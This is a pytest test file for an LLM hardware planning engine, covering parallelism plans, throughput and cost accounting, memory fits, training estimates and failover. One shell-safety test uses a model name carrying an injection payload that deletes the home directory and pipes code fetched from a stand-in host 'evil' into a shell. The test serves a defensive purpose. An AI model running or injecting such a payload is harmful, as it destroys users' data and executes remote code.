"""Issue 11: runtime-aware plans, honest accounting, binary capacities, training defaults."""

from __future__ import annotations

import pytest

from app.engine import (
    OBJECTIVE_LATENCY,
    AcceleratorSpec,
    BuildSpec,
    EngineInputError,
    InterNodeLink,
    IntraNodeLink,
    Workload,
    estimate,
    failover,
    model_spec_from_hf_config,
)

LLAMA_8B = model_spec_from_hf_config(
    {
        "model_type": "llama",
        "num_hidden_layers": 32,
        "hidden_size": 4096,
        "num_attention_heads": 32,
        "num_key_value_heads": 8,
        "intermediate_size": 14336,
        "vocab_size": 128256,
    },
    name="Llama 3 8B",
)
LLAMA_70B = model_spec_from_hf_config(
    {
        "model_type": "llama",
        "num_hidden_layers": 80,
        "hidden_size": 8192,
        "num_attention_heads": 64,
        "num_key_value_heads": 8,
        "intermediate_size": 28672,
        "vocab_size": 128256,
    },
    name="Llama 3 70B",
)
RTX4090 = AcceleratorSpec(
    "NVIDIA GeForce RTX 4090", 24, 1008, 165.2, fp8_tflops=330.3, tdp_w=450, price_usd=1599
)
FOUR_4090 = BuildSpec("4x RTX 4090", RTX4090, 1, 4, IntraNodeLink("pcie", 25), price_usd=10000)
H200 = AcceleratorSpec("H200 SXM", 141, 4800, 989, fp8_tflops=1979, tdp_w=700)
TWO_DGX_H200 = BuildSpec(
    "2x DGX H200",
    H200,
    2,
    8,
    IntraNodeLink("nvswitch", 450),
    InterNodeLink("infiniband", 3200),
    price_usd=930000,
)


def test_vllm_picks_tensor_parallel_4_over_a_pipeline_on_four_4090s():
    auto = estimate(FOUR_4090, LLAMA_70B, Workload(precision="int4", runtime="vllm"))
    pipe = estimate(
        FOUR_4090, LLAMA_70B, Workload(precision="int4", runtime="vllm", pipeline_parallel=3)
    )
    assert auto.fits and pipe.fits
    assert auto.plan.tensor_parallel == 4 and auto.plan.pipeline_parallel == 1
    assert auto.plan.objective == OBJECTIVE_LATENCY
    assert auto.throughput is not None and pipe.throughput is not None
    assert auto.throughput.decode_tokens_per_s >= 1.6 * pipe.throughput.decode_tokens_per_s
    assert auto.plan.launch_command.startswith("vllm serve ")
    assert "--tensor-parallel-size 4" in auto.plan.launch_command
    assert "--max-model-len 4096" in auto.plan.launch_command


def test_llama_cpp_splits_layers_over_all_four_cards_as_one_replica():
    e = estimate(FOUR_4090, LLAMA_70B, Workload(precision="q4_k_m"))
    assert e.runtime == "llama.cpp"  # GGUF precision: llama.cpp by default
    assert e.fits
    assert (e.plan.tensor_parallel, e.plan.pipeline_parallel, e.plan.data_parallel) == (1, 4, 1)
    assert e.plan.accelerators_used == 4 and e.plan.replicas_active == 1
    assert "--tensor-split 24,24,24,24" in e.plan.launch_command
    assert e.plan.launch_command.startswith("llama-server -m ")


def test_batch_one_aggregate_is_the_per_sequence_rate():
    # Four replicas of an 8B model, one sequence: three replicas are idle.
    w = Workload(precision="bf16", runtime="vllm", tensor_parallel=1)
    e = estimate(FOUR_4090, LLAMA_8B, w)
    assert e.plan.data_parallel == 4 and e.plan.replicas_active == 1
    assert e.throughput is not None
    assert e.throughput.aggregate_decode_tokens_per_s == pytest.approx(
        e.throughput.decode_tokens_per_s
    )
    four = estimate(FOUR_4090, LLAMA_8B, Workload(precision="bf16", tensor_parallel=1, batch=4))
    assert four.plan.replicas_active == 4
    assert four.throughput is not None and four.throughput.aggregate_decode_tokens_per_s > (
        3 * e.throughput.aggregate_decode_tokens_per_s
    )
    # Spare memory counts what no running replica uses: less spare with four replicas busy.
    assert four.memory.spare_gb < e.memory.spare_gb


def test_cost_per_token_includes_prefill_and_idle_power():
    e = estimate(FOUR_4090, LLAMA_8B, Workload(precision="bf16", tensor_parallel=1))
    t = e.throughput
    assert t is not None and e.cost.billed_tokens_per_s is not None
    assert e.cost.billed_tokens_per_s < t.aggregate_decode_tokens_per_s  # prefill time counted
    # Joules per token divide the whole build's power, idle cards included.
    assert e.cost.power_w is not None and e.cost.joules_per_token == pytest.approx(
        e.cost.power_w / e.cost.billed_tokens_per_s
    )


def test_a_16_gb_card_fits_llama_3_8b_f16_at_4k_in_llama_cpp():
    card = AcceleratorSpec("16 GB card", 16, 448, 44)
    e = estimate(
        BuildSpec("1x 16 GB", card), LLAMA_8B, Workload(precision="fp16", runtime="llama.cpp")
    )
    assert e.fits, e.verdict
    # 16 GiB of capacity, shown in GB (1e9 bytes).
    assert e.memory.available_per_accelerator_gb == pytest.approx(16 * 2**30 / 1e9)


def test_dgx_spark_exposes_at_least_110_gb():
    gb10 = AcceleratorSpec(
        "NVIDIA GB10 Superchip (DGX Spark, 128 GB)", 128, 273, 62.5, memory_kind="unified"
    )
    e = estimate(
        BuildSpec("DGX Spark", gb10, intra_node_link=IntraNodeLink("unified", None)),
        LLAMA_8B,
        Workload(),
    )
    assert e.memory.available_per_accelerator_gb >= 110
    apple = AcceleratorSpec(
        "Apple M4 Max (40-core GPU, 128 GB)", 128, 546, 34, memory_kind="unified"
    )
    mac = estimate(BuildSpec("Mac", apple), LLAMA_8B, Workload())
    assert mac.runtime == "llama.cpp"  # Apple builds default to llama.cpp
    assert mac.memory.available_per_accelerator_gb < e.memory.available_per_accelerator_gb


def test_qlora_8b_at_4k_fits_a_24_gb_card_with_defaults():
    e = estimate(BuildSpec("1x RTX 4090", RTX4090), LLAMA_8B, Workload(mode="qlora"))
    assert e.fits, e.verdict
    assert e.training is not None and e.training.recomputation
    off = estimate(
        BuildSpec("1x RTX 4090", RTX4090),
        LLAMA_8B,
        Workload(mode="qlora", activation_recomputation=False),
    )
    assert off.memory.activations_gb > e.memory.activations_gb


def test_recomputation_costs_8n_instead_of_6n():
    build = BuildSpec("8x H200", H200, 1, 8, IntraNodeLink("nvswitch", 450))
    plain = estimate(build, LLAMA_8B, Workload(mode="training", context_tokens=128, zero_stage=3))
    recompute = estimate(
        build,
        LLAMA_8B,
        Workload(mode="training", context_tokens=128, zero_stage=3, activation_recomputation=True),
    )
    assert plain.training is not None and recompute.training is not None
    assert recompute.training.flops_per_token / plain.training.flops_per_token == pytest.approx(
        8 / 6, rel=0.02
    )


def test_fp8_training_is_not_twice_bf16():
    build = BuildSpec("8x H200", H200, 1, 8, IntraNodeLink("nvswitch", 450))
    # Large steps (8 x 4,096 tokens per replica): the gradient exchange hides under backward.
    bf16 = estimate(
        build, LLAMA_8B, Workload(mode="training", context_tokens=4096, batch=8, zero_stage=3)
    )
    fp8 = estimate(
        build,
        LLAMA_8B,
        Workload(mode="training", precision="fp8", context_tokens=4096, batch=8, zero_stage=3),
    )
    assert bf16.training is not None and fp8.training is not None
    ratio = fp8.training.tokens_per_s / bf16.training.tokens_per_s
    assert 1.3 <= ratio <= 1.5


def test_inter_node_link_shows_in_data_parallel_training_time():
    def cluster(kind: str, gbps: float) -> BuildSpec:
        return BuildSpec(
            "4 nodes", H200, 4, 8, IntraNodeLink("nvswitch", 450), InterNodeLink(kind, gbps)
        )

    w = Workload(mode="training", context_tokens=2048, zero_stage=3, training_tokens=10**9)
    ib = estimate(cluster("infiniband", 3200), LLAMA_70B, w)
    eth = estimate(cluster("ethernet", 100), LLAMA_70B, w)
    assert ib.training is not None and eth.training is not None
    assert eth.training.time_to_train_hours > ib.training.time_to_train_hours
    assert eth.training.communication_s_per_step > ib.training.communication_s_per_step


def test_explicit_tensor_parallel_a_runtime_refuses_is_named():
    with pytest.raises(EngineInputError) as err:
        estimate(
            FOUR_4090, LLAMA_70B, Workload(precision="int4", runtime="vllm", tensor_parallel=3)
        )
    assert err.value.field == "tensor_parallel" and "attention heads" in err.value.reason
    with pytest.raises(EngineInputError) as err:
        estimate(FOUR_4090, LLAMA_8B, Workload(runtime="mlx", tensor_parallel=2))
    assert err.value.field == "tensor_parallel"


def test_cluster_plan_says_how_nodes_are_used_and_failover_is_computed():
    e = estimate(TWO_DGX_H200, LLAMA_70B, Workload(precision="fp8", batch=16))
    assert e.plan.node_usage == "replicas per node" and e.plan.nodes_used == 2
    cases = failover(TWO_DGX_H200, LLAMA_70B, Workload(precision="fp8", batch=16))
    assert [c.lost for c in cases] == ["one accelerator", "one node"]
    assert all(c.fits and c.accelerators_left == 8 for c in cases)
    single = failover(FOUR_4090, LLAMA_70B, Workload(precision="int4", runtime="vllm"))
    assert single[0].accelerators_left == 3 and single[0].fits


def test_fixed_costs_are_named_overheads_when_they_dominate():
    tiny = model_spec_from_hf_config(
        {
            "model_type": "llama",
            "num_hidden_layers": 28,
            "hidden_size": 1024,
            "num_attention_heads": 16,
            "num_key_value_heads": 8,
            "intermediate_size": 3072,
            "vocab_size": 32000,
        },
        name="tiny",
    )
    e = estimate(BuildSpec("1x H200", H200), tiny, Workload(precision="bf16", context_tokens=512))
    assert e.throughput is not None and e.throughput.bottleneck == "overheads"
    assert not any("too small" in f.message for f in e.findings)


def test_kv_cache_defaults_to_bf16_for_fp8_weights():
    e = estimate(TWO_DGX_H200, LLAMA_70B, Workload(precision="fp8"))
    assert any("KV cache bf16" in a for a in e.assumptions)
    fp8kv = estimate(TWO_DGX_H200, LLAMA_70B, Workload(precision="fp8", kv_cache_precision="fp8"))
    assert fp8kv.memory.kv_cache_gb < e.memory.kv_cache_gb


def test_plan_search_does_not_grow_with_the_accelerator_count():
    w = Workload(mode="training", context_tokens=4096)
    small = BuildSpec(
        "2 nodes", H200, 2, 16, IntraNodeLink("nvswitch", 450), InterNodeLink("infiniband", 3200)
    )
    huge = BuildSpec(
        "4096 nodes",
        H200,
        4096,
        16,
        IntraNodeLink("nvswitch", 450),
        InterNodeLink("infiniband", 3200),
    )
    assert estimate(huge, LLAMA_70B, w).plan.plans_evaluated <= (
        estimate(small, LLAMA_70B, w).plan.plans_evaluated + 8 * 18
    )
    assert estimate(huge, LLAMA_70B, w).plan.plans_evaluated <= 8 * 2 * 9 + 1


def test_llama_cpp_with_a_non_gguf_precision_says_which_gguf_format_is_closest():
    apple = AcceleratorSpec(
        "Apple M3 Ultra (80-core GPU, 512 GB)", 512, 819, 28, memory_kind="unified"
    )
    e = estimate(BuildSpec("Mac Studio", apple), LLAMA_70B, Workload(precision="fp8"))
    assert e.runtime == "llama.cpp"
    assert any("closest GGUF format is Q8_0" in f.message for f in e.findings)
    gguf = estimate(BuildSpec("Mac Studio", apple), LLAMA_70B, Workload(precision="q8_0"))
    assert not any("closest GGUF" in f.message for f in gguf.findings)


def test_launch_command_is_shell_safe_whatever_the_model_name():
    hostile = model_spec_from_hf_config(
        {
            "model_type": "llama",
            "num_hidden_layers": 32,
            "hidden_size": 4096,
            "num_attention_heads": 32,
            "num_key_value_heads": 8,
            "intermediate_size": 14336,
            "vocab_size": 128256,
        },
        name="x; rm -rf ~ $(curl evil|sh) `id` 'q'",
    )
    e = estimate(FOUR_4090, hostile, Workload(precision="bf16"))
    command = e.plan.launch_command
    assert command.startswith("vllm serve x-rm-")
    assert not any(c in command for c in ";$`'\"|()~&<>")


def _case_from_full_estimate(lost, smaller, model, workload):
    """What a failover case says, read off the whole estimate of the smaller build."""
    if smaller is None:
        return (lost, 0, False, None, None, "nothing left to run on")
    try:
        est = estimate(smaller, model, workload)
    except EngineInputError as exc:
        return (lost, smaller.accelerator_count, False, None, None, exc.reason)
    t = est.throughput
    return (
        lost,
        smaller.accelerator_count,
        est.fits,
        t.decode_tokens_per_s if t else None,
        t.aggregate_decode_tokens_per_s if t else None,
        est.plan.description if est.fits else est.verdict,
    )


@pytest.mark.parametrize(
    "workload",
    [
        Workload(precision="fp8", batch=16),
        Workload(precision="bf16", batch=1, context_tokens=32768),
        Workload(precision="int4", runtime="vllm", batch=3),
        Workload(precision="q4_k_m", batch=2),
        Workload(precision="fp8", tensor_parallel=4),
        Workload(precision="fp8", tensor_parallel=8),
        Workload(mode="training", zero_stage=3, precision="bf16"),
        Workload(mode="qlora", precision="bf16"),
    ],
)
def test_failover_cases_say_what_the_smaller_builds_whole_estimate_says(workload):
    """The failover path stops after the plan search; its figures must be the estimate's."""
    from dataclasses import astuple, replace

    builds = [
        FOUR_4090,
        TWO_DGX_H200,
        replace(FOUR_4090, accelerators_per_node=1),
        replace(FOUR_4090, accelerators_per_node=2),
    ]
    checked = 0
    for build in builds:
        for model in (LLAMA_8B, LLAMA_70B):
            try:
                cases = failover(build, model, workload)
            except EngineInputError:
                continue
            if build.nodes > 1:
                smaller = replace(build, nodes=build.nodes - 1)
                expected = [
                    _case_from_full_estimate(lost, smaller, model, workload)
                    for lost in ("one accelerator", "one node")
                ]
            else:
                apn = build.accelerators_per_node
                smaller = replace(build, accelerators_per_node=apn - 1) if apn > 1 else None
                expected = [_case_from_full_estimate("one accelerator", smaller, model, workload)]
            assert [astuple(c) for c in cases] == expected
            checked += 1
    assert checked >= 4
